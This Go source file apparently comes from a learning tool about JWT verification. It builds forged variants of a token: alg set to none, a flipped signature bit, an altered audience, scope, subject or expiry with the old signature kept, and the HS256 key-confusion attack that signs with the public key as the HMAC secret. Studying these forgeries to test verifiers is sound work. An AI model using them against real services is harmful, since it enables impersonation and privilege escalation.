package learn

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"slices"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"
)

// change is what somebody makes of a token who does not have the key that signed it.
type change struct {
	Name, Label string
	Does        string // what of the token is other than it was
	make        func(*parsed) error
}

// parsed is a JWT as somebody takes it apart who wants another one.
type parsed struct {
	Header, Claims map[string]any
	signature      []byte
	resign         func(signed []byte) []byte // nil: the signature stays as it was
	key            *jose.JSONWebKey           // the public key that verifies it; nil: it is not in the JWKS
	now            time.Time
}

// changes are those that people try first, and those that have worked elsewhere.
var changes = []change{
	{"flip", "Flip one bit", "One bit of the signature.", func(p *parsed) error {
		if len(p.signature) == 0 {
			return errors.New("it has no signature")
		}
		p.signature[len(p.signature)/2] ^= 1
		return nil
	}},
	{"none", "Set alg to none", "alg says none, and there is no signature any more.", func(p *parsed) error {
		p.Header["alg"], p.signature = "none", nil
		return nil
	}},
	{"aud", "Another audience", "aud is https://api.elsewhere.example. The signature is the old one.", claim("aud", func(any, *parsed) any { return "https://api.elsewhere.example" })},
	{"scope", "Add a scope", "scope has blog:write in it. The signature is the old one.", claim("scope", func(old any, _ *parsed) any {
		text, _ := old.(string)
		return strings.TrimSpace(text + " blog:write")
	})},
	{"sub", "Be somebody else", "sub is another person’s. The signature is the old one.", claim("sub", func(any, *parsed) any { return "somebody-else" })},
	{"exp", "Live a year longer", "exp is in a year. The signature is the old one.", claim("exp", func(_ any, p *parsed) any { return p.now.AddDate(1, 0, 0).Unix() })},
	{"hs256", "HS256 with the public key", "alg says HS256, and it is signed: with the public key as the shared secret, which everybody has.", func(p *parsed) error {
		if p.key == nil {
			return errors.New("its key is not in the JWKS any more")
		}
		der, err := x509.MarshalPKIXPublicKey(p.key.Key)
		if err != nil {
			return err
		}
		secret := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		p.Header["alg"] = "HS256"
		p.resign = func(signed []byte) []byte {
			mac := hmac.New(sha256.New, secret)
			mac.Write(signed)
			return mac.Sum(nil)
		}
		return nil
	}},
}

func claim(name string, other func(old any, p *parsed) any) func(*parsed) error {
	return func(p *parsed) error {
		p.Claims[name] = other(p.Claims[name], p)
		return nil
	}
}

func changeNamed(name string) (change, bool) {
	i := slices.IndexFunc(changes, func(c change) bool { return c.Name == name })
	if i < 0 {
		return change{}, false
	}
	return changes[i], true
}

// of is the token that becomes of raw; keys are the public ones.
func (c change) of(raw string, keys jose.JSONWebKeySet, now time.Time) (string, error) {
	parts := strings.Split(raw, ".")
	if len(parts) != 3 {
		return "", errors.New("it is no JWT")
	}
	p := &parsed{now: now}
	var err error
	if p.Header, err = object(parts[0]); err != nil {
		return "", err
	}
	if p.Claims, err = object(parts[1]); err != nil {
		return "", err
	}
	if p.signature, err = base64.RawURLEncoding.DecodeString(parts[2]); err != nil {
		return "", err
	}
	if kid, _ := p.Header["kid"].(string); kid != "" {
		if found := keys.Key(kid); len(found) > 0 {
			p.key = &found[0]
		}
	}
	before := [2]string{parts[0], parts[1]}
	head, body := encoded(p.Header), encoded(p.Claims)
	if err := c.make(p); err != nil {
		return "", err
	}
	// A part that nobody changed stays as it was, to the byte.
	for i, now := range []string{encoded(p.Header), encoded(p.Claims)} {
		if now != []string{head, body}[i] {
			before[i] = now
		}
	}
	signed := before[0] + "." + before[1]
	if p.resign != nil {
		p.signature = p.resign([]byte(signed))
	}
	return signed + "." + base64.RawURLEncoding.EncodeToString(p.signature), nil
}

func object(part string) (all map[string]any, err error) {
	text, err := base64.RawURLEncoding.DecodeString(part)
	if err != nil {
		return nil, err
	}
	dec := json.NewDecoder(bytes.NewReader(text))
	dec.UseNumber() // seconds stay what they were
	err = dec.Decode(&all)
	if err == nil && all == nil {
		err = errors.New("it is no JSON object")
	}
	return all, err
}

func encoded(members map[string]any) string {
	text, _ := json.Marshal(members)
	return base64.RawURLEncoding.EncodeToString(text)
}
